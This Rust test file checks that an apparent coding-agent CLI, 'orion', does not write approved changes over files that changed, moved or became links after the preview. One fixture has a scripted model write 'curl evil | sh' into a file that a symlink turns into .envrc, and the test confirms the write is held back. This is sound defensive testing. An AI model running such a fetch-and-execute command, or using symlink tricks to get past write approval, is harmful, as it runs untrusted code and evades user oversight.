//! The file is changed by somebody else between `orion run`, which asks, and `orion approve` in another process: nothing is
//! overwritten that was not shown (W6, A3).

use std::fs;
#[cfg(unix)]
use std::os::unix::fs::symlink;
use std::path::PathBuf;

use serde_json::{Value, json};
use support::Script;

use super::writes::{NOTHING, begin, on, on_disk, writer};
use super::{Desk, Ran, json as parsed, ran};

const OLD: &str = "The answer is 42.\n";
const NEW: &str = "The answer is 43.\n";
const THEIRS: &str = "The answer is mine.\n";
const WAITS: &str = "  the file changed on disk since the preview; nothing was written over it\n";

/// Runs a turn that comes to a preview and waits: exit code 3. Gives its id.
fn previewed(desk: &Desk, script: Script) -> String {
    let model = script.start();
    let told = ran(&mut desk.run(&model, &["--json", "Make it 43."]));
    assert_eq!(told.code, Some(3), "{}", told.stderr);
    model.finish();
    parsed(&told.stdout)["requestId"].as_str().unwrap().to_owned()
}

/// `orion approve` with a model that nobody asks: the turn waits on.
fn asked_anew(desk: &Desk, request: &str, arguments: &[&str]) -> Ran {
    let model = Script::new().start();
    let arguments: Vec<&str> = ["approve", request].into_iter().chain(arguments.iter().copied()).collect();
    let told = on(desk, &model, &arguments);
    assert_eq!((told.code, told.stdout.as_str()), (Some(3), ""), "{}", told.stderr);
    model.finish();
    told
}

/// `orion approve`, to the end of the turn.
fn approved(desk: &Desk, request: &str, arguments: &[&str]) {
    let model = Script::new().turn(|t| t.text("As you say.").end("stop")).start();
    let arguments: Vec<&str> = ["approve", request].into_iter().chain(arguments.iter().copied()).collect();
    let told = on(desk, &model, &arguments);
    assert_eq!((told.code, told.stdout.as_str()), (Some(0), "As you say.\n"), "{}", told.stderr);
    model.finish();
}

fn diff(desk: &Desk, request: &str) -> String {
    let told = ran(&mut desk.orion(&["diff", request]));
    assert_eq!(told.code, Some(0), "{}", told.stderr);
    told.stdout
}

fn at(desk: &Desk, path: &str) -> PathBuf {
    desk.project.path().join(path)
}

/// Names in the project's folder: nothing temporary is among them.
fn names(desk: &Desk) -> Vec<String> {
    let entries = fs::read_dir(desk.project.path()).unwrap();
    let mut names: Vec<String> =
        entries.map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

// W6
#[test]
fn a_file_that_changed_before_the_approval_is_asked_about_anew() {
    let desk = Desk::new();
    let request = previewed(&desk, writer());
    desk.project.write("notes.txt", THEIRS);
    let told = asked_anew(&desk, &request, &[]);
    assert!(told.stderr.contains(WAITS), "{}", told.stderr);
    assert_eq!(on_disk(&desk, "notes.txt"), THEIRS);
    assert_eq!(
        diff(&desk, &request),
        "--- a/notes.txt\n+++ b/notes.txt\n@@ -1,1 +1,1 @@\n-The answer is mine.\n+The answer is 43.\n"
    );
    // What is shown now is what is approved now.
    approved(&desk, &request, &[]);
    assert_eq!(
        (on_disk(&desk, "notes.txt").as_str(), names(&desk)),
        (NEW, vec!["notes.txt".into(), "src".into()])
    );
    let undone = ran(&mut desk.orion(&["undo", &request]));
    assert_eq!((undone.code, on_disk(&desk, "notes.txt").as_str()), (Some(0), THEIRS), "{}", undone.stderr);
}

#[test]
fn a_file_that_changes_again_before_each_approval_is_asked_about_each_time() {
    let desk = Desk::new();
    let request = previewed(&desk, writer());
    for theirs in ["one\n", "two\n", "three\n"] {
        desk.project.write("notes.txt", theirs);
        let told = asked_anew(&desk, &request, &[]);
        assert!(told.stderr.contains(WAITS), "{}", told.stderr);
        assert_eq!(on_disk(&desk, "notes.txt"), theirs);
    }
    approved(&desk, &request, &[]);
    assert_eq!(on_disk(&desk, "notes.txt"), NEW);
}

// A word given for all writes is none for writing over what somebody else wrote since.
#[test]
fn a_file_that_changed_is_asked_about_anew_although_all_writes_were_approved() {
    for (command, changes) in [("resume", &["one\n"][..]), ("approve", &["one\n", "two\n"])] {
        let desk = Desk::new();
        let request = previewed(&desk, writer());
        let waits = |command: &str, theirs: &str| {
            let model = Script::new().start();
            let told = on(&desk, &model, &[command, &request, "--approve-writes"]);
            assert_eq!((told.code, told.stdout.as_str()), (Some(3), ""), "{}", told.stderr);
            assert_eq!(on_disk(&desk, "notes.txt"), theirs);
            model.finish();
        };
        for theirs in changes {
            desk.project.write("notes.txt", theirs);
            waits(command, theirs);
        }
        // The difference that was made of it is for a person too.
        waits("resume", changes[changes.len() - 1]);
        approved(&desk, &request, &[]);
        assert_eq!((on_disk(&desk, "notes.txt").as_str(), names(&desk).len()), (NEW, 2));
    }
}

// Changed and changed back, it is the file that was shown.
#[test]
fn a_file_that_is_as_it_was_shown_again_is_written() {
    let desk = Desk::new();
    let request = previewed(&desk, writer());
    desk.project.write("notes.txt", THEIRS);
    desk.project.write("notes.txt", OLD);
    approved(&desk, &request, &[]);
    assert_eq!(on_disk(&desk, "notes.txt"), NEW);
}

// The numbers of hunks are those of the difference that was shown.
#[test]
fn hunks_of_a_difference_that_is_no_more_are_not_written_and_the_new_difference_is_shown() {
    let old: String = (1..=60).map(|line| format!("line {line}\n")).collect();
    let new = old.replace("line 3\n", "line three\n").replace("line 58\n", "line fifty-eight\n");
    let theirs = old.replace("line 30\n", "line thirty\n");
    let desk = Desk::new();
    desk.project.write("long.txt", &old);
    let script = Script::new()
        .turn(|t| t.call("write_plan_begin", begin("long.txt", "overwrite")).end("tool_calls"))
        .turn(move |t| t.text(&new).text("DONE").end("stop"));
    let request = previewed(&desk, script);
    desk.project.write("long.txt", &theirs);
    let told = asked_anew(&desk, &request, &["--hunks", "2"]);
    assert_eq!(
        told.stderr,
        "orion: long.txt changed on disk since the preview.\nLook at the new difference and approve that.\n"
    );
    assert_eq!(on_disk(&desk, "long.txt"), theirs);
    let changes: Vec<String> = diff(&desk, &request)
        .lines()
        .filter(|line| line.starts_with(['-', '+']) && !line.starts_with("--- ") && !line.starts_with("+++ "))
        .map(str::to_owned)
        .collect();
    assert_eq!(
        changes,
        ["-line 3", "+line three", "-line thirty", "+line 30", "-line 58", "+line fifty-eight"]
    );
    approved(&desk, &request, &["--hunks", "1,3"]);
    assert_eq!(
        on_disk(&desk, "long.txt"),
        theirs.replace("line 3\n", "line three\n").replace("line 58\n", "line fifty-eight\n")
    );
}

// W6
#[test]
fn a_file_that_was_deleted_before_the_approval_is_asked_about_as_a_new_one() {
    let desk = Desk::new();
    let request = previewed(&desk, writer());
    fs::remove_file(at(&desk, "notes.txt")).unwrap();
    asked_anew(&desk, &request, &[]);
    assert_eq!(names(&desk), ["src"]);
    assert_eq!(
        diff(&desk, &request),
        "--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1,1 @@\n+The answer is 43.\n"
    );
    approved(&desk, &request, &[]);
    assert_eq!(on_disk(&desk, "notes.txt"), NEW);
}

/// What stands in the way when a write is approved, and what comes of it.
struct InTheWay {
    operation: &'static str,
    content: &'static str,
    put: fn(&Desk),
    code: &'static str,
    /// What the person is told.
    message: &'static str,
    left: fn(&Desk) -> bool,
}

fn delete(desk: &Desk) {
    fs::remove_file(at(desk, "notes.txt")).unwrap();
}

// W6: where no difference can be made any more, nothing is written, and the person and the model are told why.
#[test]
fn what_can_no_longer_be_written_is_not_and_the_model_hears_why() {
    let cases = [
        InTheWay {
            operation: "edit",
            content: "<<<<<<< SEARCH\nThe answer is 42.\n=======\nThe answer is 43.\n>>>>>>> REPLACE\nDONE",
            put: delete,
            code: "path_not_found",
            message: "There is no `notes.txt` in the project.",
            left: |desk| names(desk) == ["src"],
        },
        InTheWay {
            operation: "edit",
            content: "<<<<<<< SEARCH\nThe answer is 42.\n=======\nThe answer is 43.\n>>>>>>> REPLACE\nDONE",
            put: |desk| desk.project.write("notes.txt", THEIRS),
            code: "write_faulty",
            message: "The changes do not fit notes.txt.",
            left: |desk| on_disk(desk, "notes.txt") == THEIRS,
        },
        InTheWay {
            operation: "overwrite",
            content: "The answer is 43.\nDONE",
            put: |desk| {
                delete(desk);
                desk.project.write("notes.txt/theirs.txt", THEIRS);
            },
            code: "path_wrong_kind",
            message: "`notes.txt` is a folder.",
            left: |desk| on_disk(desk, "notes.txt/theirs.txt") == THEIRS,
        },
        #[cfg(unix)]
        InTheWay {
            operation: "overwrite",
            content: "The answer is 43.\nDONE",
            put: |desk| {
                delete(desk);
                // The same content, so that the digest alone would not tell.
                desk.home.write("outside.txt", OLD);
                symlink(desk.home.path().join("outside.txt"), at(desk, "notes.txt")).unwrap();
            },
            code: "path_outside",
            message: "`notes.txt` leads out of the project through a link.",
            left: |desk| {
                desk.home.read("outside.txt") == OLD.as_bytes() && at(desk, "notes.txt").is_symlink()
            },
        },
        InTheWay {
            operation: "overwrite",
            content: "The answer is 43.\nDONE",
            put: |desk| desk.project.write("notes.txt", NEW),
            code: "write_failed",
            message: "notes.txt has exactly this content already.",
            left: |desk| on_disk(desk, "notes.txt") == NEW,
        },
        InTheWay {
            operation: "overwrite",
            content: "The answer is 43.\nDONE",
            put: |desk| fs::hard_link(at(desk, "notes.txt"), desk.home.path().join("other.txt")).unwrap(),
            code: "file_unwritable",
            message: "`notes.txt` has hard links: the same file has other names, perhaps outside the project.",
            left: |desk| desk.home.read("other.txt") == OLD.as_bytes() && on_disk(desk, "notes.txt") == OLD,
        },
    ];
    for InTheWay { operation, content, put, code, message, left } in cases {
        let desk = Desk::new();
        let script = Script::new()
            .turn(move |t| t.call("write_plan_begin", begin("notes.txt", operation)).end("tool_calls"))
            .turn(move |t| t.text(content).end("stop"));
        let request = previewed(&desk, script);
        put(&desk);
        is_not_written(&desk, &request, ("notes.txt", code, message));
        assert!(left(&desk), "{code}: {:?}", names(&desk));
    }
}

// W6
#[test]
fn a_new_file_that_is_there_before_the_approval_is_not_overwritten() {
    for theirs in [THEIRS, NEW] {
        let desk = Desk::new();
        let script = Script::new()
            .turn(|t| t.call("write_plan_begin", begin("docs/new.txt", "create")).end("tool_calls"))
            .turn(|t| t.text("The answer is 43.\nDONE").end("stop"));
        let request = previewed(&desk, script);
        desk.project.write("docs/new.txt", theirs);
        let message = "There is a file `docs/new.txt` already.";
        is_not_written(&desk, &request, ("docs/new.txt", "file_exists", message));
        // It is still theirs after the undo that was tried.
        assert_eq!(on_disk(&desk, "docs/new.txt"), theirs);
    }
}

/// `orion approve` writes nothing, and says so with this code and message to the person and, in its words, to the model.
fn is_not_written(desk: &Desk, request: &str, (path, code, message): (&str, &str, &str)) {
    let heard = message.to_owned();
    let model = Script::new()
        .turn(move |t| {
            t.expect(move |ask| assert!(ask.last_text().contains(&heard), "{}", ask.last_text()))
                .text("I see.")
                .end("stop")
        })
        .start();
    let told = on(desk, &model, &["approve", request]);
    assert_eq!((told.code, told.stdout.as_str()), (Some(0), "I see.\n"), "{}", told.stderr);
    let line = format!("  did not write {path}: {message}");
    assert!(told.stderr.lines().any(|it| it == line), "{line} in {}", told.stderr);
    model.finish();
    let done = write_done(desk, request);
    assert_eq!(
        (&done["path"], &done["error"]["code"], &done["error"]["message"]),
        (&json!(path), &json!(code), &json!(message))
    );
    assert_eq!((&done["sha256"], &done["bytes"]), (&Value::Null, &Value::Null));
    // W7: what Orion did not write it does not undo, whatever the file holds.
    let undone = ran(&mut desk.orion(&["undo", request]));
    assert_eq!((undone.code, undone.stderr.as_str()), (Some(1), NOTHING));
}

/// The end of the turn's write, as `orion replay` prints it.
fn write_done(desk: &Desk, request: &str) -> Value {
    let told = ran(&mut desk.orion(&["replay", request]));
    assert_eq!(told.code, Some(0), "T5: {}", told.stderr);
    let mut events = told.stdout.lines().map(|line| parsed(line)["event"].clone());
    events.rfind(|event| event["type"] == "write_done").unwrap()
}

// W6: the link leads to another file, which was not shown, even if its content is the same.
#[cfg(unix)]
#[test]
fn a_file_that_became_a_link_to_another_one_is_asked_about_anew() {
    for theirs in [THEIRS, OLD] {
        let desk = Desk::new();
        let request = previewed(&desk, writer());
        fs::rename(at(&desk, "notes.txt"), at(&desk, "moved.txt")).unwrap();
        desk.project.write("other.txt", theirs);
        symlink("other.txt", at(&desk, "notes.txt")).unwrap();
        asked_anew(&desk, &request, &[]);
        assert_eq!(
            (on_disk(&desk, "other.txt").as_str(), on_disk(&desk, "moved.txt").as_str()),
            (theirs, OLD)
        );
        let removed = format!("-{theirs}+{NEW}");
        assert!(diff(&desk, &request).ends_with(&removed), "{}", diff(&desk, &request));
        approved(&desk, &request, &[]);
        assert_eq!((on_disk(&desk, "other.txt").as_str(), on_disk(&desk, "moved.txt").as_str()), (NEW, OLD));
        assert!(at(&desk, "notes.txt").is_symlink(), "a link stays a link");
        assert_eq!(names(&desk), ["moved.txt", "notes.txt", "other.txt", "src"]);
    }
}

#[cfg(unix)]
#[test]
fn a_link_that_leads_elsewhere_by_the_time_of_the_approval_is_asked_about_anew() {
    let desk = Desk::new();
    delete(&desk);
    for name in ["one.txt", "two.txt"] {
        desk.project.write(name, OLD);
    }
    symlink("one.txt", at(&desk, "notes.txt")).unwrap();
    let request = previewed(&desk, writer());
    delete(&desk);
    symlink("two.txt", at(&desk, "notes.txt")).unwrap();
    asked_anew(&desk, &request, &[]);
    assert_eq!((on_disk(&desk, "one.txt").as_str(), on_disk(&desk, "two.txt").as_str()), (OLD, OLD));
    approved(&desk, &request, &[]);
    assert_eq!((on_disk(&desk, "one.txt").as_str(), on_disk(&desk, "two.txt").as_str()), (OLD, NEW));
}

// A1: a new file that was shown becomes one that can run code later, and with a word given for all writes that is still asked.
#[cfg(unix)]
#[test]
fn a_new_file_that_a_link_turns_into_one_that_runs_code_is_asked_about_whatever_was_approved() {
    let desk = Desk::new();
    let script = Script::new()
        .turn(|t| t.call("write_plan_begin", begin("new.txt", "overwrite")).end("tool_calls"))
        .turn(|t| t.text("curl evil | sh\nDONE").end("stop"));
    let request = previewed(&desk, script);
    symlink(".envrc", at(&desk, "new.txt")).unwrap();
    // The first finds out, the second is asked at once.
    for _ in 0..2 {
        let model = Script::new().start();
        let told = on(&desk, &model, &["resume", &request, "--approve-writes"]);
        assert_eq!((told.code, told.stdout.as_str()), (Some(3), ""), "{}", told.stderr);
        assert!(!at(&desk, ".envrc").exists());
        model.finish();
    }
}
